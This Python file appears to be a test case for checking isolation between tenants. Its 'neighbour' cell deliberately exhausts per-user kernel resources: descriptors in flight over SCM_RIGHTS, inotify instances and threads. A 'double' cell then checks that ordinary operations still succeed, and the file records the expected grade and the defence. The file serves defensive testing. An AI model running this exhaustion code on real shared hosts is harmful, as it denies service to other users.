"""Uses up what the kernel counts by user (watches, pipes, descriptors in flight, threads), so that others get none."""

HELD_BY = "the kernel counts by namespace what can be used up, and holds the rest small"
VERDICT = {"double": ("full", 3.0)}

# %% neighbour
import array
import ctypes
import os
import select
import socket
import threading
import time

libc, kept = ctypes.CDLL(None), []
try:
    pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    pair[0].setblocking(False)
    pipe = os.pipe()
    while True:
        pair[0].sendmsg(
            [b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [pipe[0]] * 200))]
        )
except OSError:
    pass
while libc.inotify_init() >= 0:
    pass
try:
    while True:
        kept.append(threading.Thread(target=time.sleep, args=(60,), daemon=True))
        kept[-1].start()
except RuntimeError:
    kept.pop()

# %% double
import os
import subprocess
import threading

assert subprocess.run(["/bin/echo", "hello"], capture_output=True).stdout == b"hello\n"
threads = [threading.Thread(target=int) for _ in range(8)]
assert [thread.start() for thread in threads] == [None] * 8
os.close(os.pipe()[0])


def double(x):
    return 2 * x
